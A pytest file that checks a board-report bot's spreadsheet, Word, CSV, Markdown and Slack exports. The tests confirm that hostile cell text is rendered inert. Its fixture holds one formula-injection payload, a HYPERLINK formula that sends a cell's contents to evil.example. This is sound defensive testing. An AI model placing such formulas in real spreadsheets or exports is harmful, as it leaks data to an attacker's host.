"""The board pack as files: open each one and check what a chair would rely on."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from docx import Document
from docx.oxml.ns import qn
from openpyxl import load_workbook

from commands import Caller, Context
from commands.pages.report import report_page
from commands.quarters import make_quarter
from commands.render_blocks import to_reply
from commands.report import QuarterReport, build_report
from commands.report_docx import paper_docx
from commands.report_files import CSV_HEADER, csv_bytes, paper_markdown, report_rows
from commands.report_paper import quarter_paper
from commands.report_xlsx import paper_xlsx
from storage.database import Database
from storage.repository import PlanRepository
from tests.commands.conftest import Ask

AUGUST = datetime(2014, 8, 12, 11, tzinfo=UTC)
OCTOBER = datetime(2014, 10, 15, 11, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?"&B2,"Evidence pack")'
PLUS = "+1 more agency late with returns"
AT_SUM = "@SUM(1,1) capacity in the team"


@pytest.fixture
def q2(sample_database: Database, ask: Ask) -> QuarterReport:
    """Q2 2014/15 with hostile text in a challenge, a note and a risk, and a later change."""
    ask(f"update 2.3 at-risk {PLUS}", now=AUGUST)
    ask("done 1.4 membership reviewed", now=AUGUST)
    ask(f"challenge 2.3 {EVIL}", now=AUGUST)
    ask(f"risk add l=3 i=4 owner=pmqa actions=2.3 {AT_SUM}", now=AUGUST)
    ask("update 2.3 off-track changed after the quarter", now=OCTOBER)
    with sample_database.unit_of_work() as session:
        ctx = Context(PlanRepository.for_team(session), OCTOBER, Caller("UCHAIR", True))
        return build_report(ctx, make_quarter(2014, 2, ctx.repo.plan.starts))


def column(sheet: object, title: str) -> int:
    for row in sheet.iter_rows():  # type: ignore[attr-defined]
        for cell in row:
            if cell.value == title:
                return int(cell.column)
    raise AssertionError(f"no column {title}")


def test_the_workbook_has_a_title_block_sheets_numbers_colours_and_a_chart(
        q2: QuarterReport) -> None:
    content = paper_xlsx(quarter_paper(q2))
    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["RAG", "Exceptions", "Highlights", "No update", "Undated",
                               "Challenges", "Risks"]
    for sheet in book.worksheets:
        assert "Q2 2014/15" in sheet["A1"].value
        facts = {sheet.cell(r, 1).value: sheet.cell(r, 2).value for r in range(2, 6)}
        assert facts["As at"] == datetime(2014, 9, 30)
        assert facts["Board"] == "Cumbria Local Safeguarding Children Board"
        assert sheet.freeze_panes is not None and int(sheet.freeze_panes[1:]) > 6
    rag = book["RAG"]
    header = int(rag.freeze_panes[1:]) - 1
    assert rag.cell(header, 1).value == "Theme"
    theme1 = [c.value for c in rag[header + 1]]
    assert theme1 == ["1. Leadership and Governance", 0, 0, 0, 1, 14, 15]
    assert all(isinstance(v, int) for v in theme1[1:])
    assert rag.column_dimensions["A"].width == 40
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
        chart = archive.read(charts[0]).decode()
    assert len(charts) == 1 and "<barChart>" in chart and '<grouping val="stacked"/>' in chart
    assert f"'RAG'!$B${header + 1}:$B${header + 9}" in chart  # nine themes, not the total
    assert f"'RAG'!$A${header + 1}:$A${header + 9}" in chart
    exceptions = book["Exceptions"]
    rows = {r[0].value: r for r in exceptions.iter_rows() if r[0].value == "2.3"}
    status = rows["2.3"][column(exceptions, "Status") - 1]
    assert status.value == "at risk" and status.fill.fgColor.rgb.endswith("FFEB9C")
    assert rows["2.3"][column(exceptions, "Owners") - 1].value == \
        "Policies and Procedures Subgroup"
    assert rows["2.3"][column(exceptions, "Latest commentary") - 1].value == "'" + PLUS
    due = rows["2.3"][column(exceptions, "Due") - 1]
    assert due.value == datetime(2015, 3, 31) and due.number_format == "d mmm yyyy"


def test_no_text_in_the_workbook_is_a_formula(q2: QuarterReport) -> None:
    book = load_workbook(io.BytesIO(paper_xlsx(quarter_paper(q2))))
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip("'")[:1] in "=+@":
                    found[cell.value.lstrip("'")] = (cell.value, cell.data_type)
    for text in (EVIL, PLUS, AT_SUM):
        assert found[text] == ("'" + text, "s")


def test_the_document_reads_as_a_board_paper(q2: QuarterReport) -> None:
    document = Document(io.BytesIO(paper_docx(quarter_paper(q2))))
    styles = [(p.style.name, p.text) for p in document.paragraphs if p.style.name != "Normal"]
    assert styles[0] == ("Title", "Business plan monitoring report: Q2 2014/15 (Jul–Sep 2014)")
    assert [t for s, t in styles if s == "Heading 1"] == [
        "RAG by theme", "Exceptions", "Highlights", "No update this quarter",
        "No date the bot can read", "Challenges", "Open risks"]
    text = "\n".join(p.text for p in document.paragraphs)
    assert "As at: 30 Sep 2014" in text and "Quarter: Q2 2014/15" in text
    assert document.core_properties.title.startswith("Business plan monitoring report")
    for table in document.tables:
        header = table.rows[0]._tr.trPr
        assert header is not None and header.find(qn("w:tblHeader")) is not None
    cells = [c.text for t in document.tables for r in t.rows for c in r.cells]
    assert EVIL in cells and PLUS in cells and AT_SUM in cells  # as written, no apostrophe
    assert "Policies and Procedures Subgroup" in cells and "30 Jun 2014" in cells
    pictures = document.inline_shapes
    assert len(pictures) == 1
    described = pictures[0]._inline.docPr.get("descr")
    assert "1. Leadership and Governance: 0 off track" in described


def test_the_csv_has_a_bom_one_row_per_item_and_inert_text(q2: QuarterReport) -> None:
    content = csv_bytes(CSV_HEADER, report_rows(q2))
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    e23 = next(r for r in rows if r["section"] == "Exception" and r["ref"] == "2.3")
    assert e23["owners"] == "Policies and Procedures Subgroup" and e23["status"] == "at risk"
    assert (e23["when"], e23["due_date"], e23["commentary_date"]) == (
        "Annually", "2015-03-31", "2014-08-12")
    assert e23["commentary"] == "'" + PLUS
    assert next(r for r in rows if r["section"] == "Challenge")["item"] == "'" + EVIL
    assert next(r for r in rows if r["section"] == "Risk")["item"] == "'" + AT_SUM
    milestone = next(r for r in rows if r["ref"] == "6.1" and r["section"] == "Exception")
    assert milestone["item"].startswith("Milestone:") and milestone["due_date"] == "2014-07-31"
    assert "–" in content.decode("utf-8-sig")


def test_markdown_shows_owners_and_the_text_as_written(q2: QuarterReport) -> None:
    markdown = paper_markdown(quarter_paper(q2))
    assert markdown.startswith("# Business plan monitoring report: Q2 2014/15")
    assert "- **As at:** 30 Sep 2014" in markdown
    assert EVIL in markdown and PLUS in markdown and AT_SUM in markdown
    assert "Policies and Procedures Subgroup" in markdown
    assert "changed after the quarter" not in markdown


def test_slack_carries_what_the_files_carry(q2: QuarterReport) -> None:
    reply = to_reply(report_page(q2))
    assert len(reply.blocks) <= 50
    text = "\n".join(e.get("text", "") if isinstance(e, dict) else "" for b in reply.blocks
                     for e in [b.get("text", {}), *b.get("elements", [])])
    assert "Policies and Procedures Subgroup" in text and "not yet answered" in text
    assert "No update this quarter (" in text and "Milestone:" in text
    assert "+1 more agency late" in text and "12 Aug 2014" in text
    assert "&amp;B2" in text  # escaped for mrkdwn, not a link
    assert date(2014, 9, 30) == q2.as_of


def test_text_pasted_from_word_opens_in_every_file(sample_database: Database, ask: Ask) -> None:
    """Word's line break (\\x0b) and a stray bell are characters no XML file may hold."""
    assert not ask("update 2.5 at-risk first line\x0bsecond line\x07 – “quoted”",
                   now=AUGUST).is_error
    with sample_database.unit_of_work() as session:
        ctx = Context(PlanRepository.for_team(session), OCTOBER, Caller("UCHAIR", True))
        paper = quarter_paper(build_report(ctx, make_quarter(2014, 2, ctx.repo.plan.starts)))
    book = load_workbook(io.BytesIO(paper_xlsx(paper)))
    notes = [c.value for r in book["Exceptions"].iter_rows() for c in r
             if isinstance(c.value, str) and c.value.startswith("first line")]
    assert notes == ["first line second line  – “quoted”"]
    cells = [c.text for t in Document(io.BytesIO(paper_docx(paper))).tables
             for r in t.rows for c in r.cells]
    assert "first line second line  – “quoted”" in cells
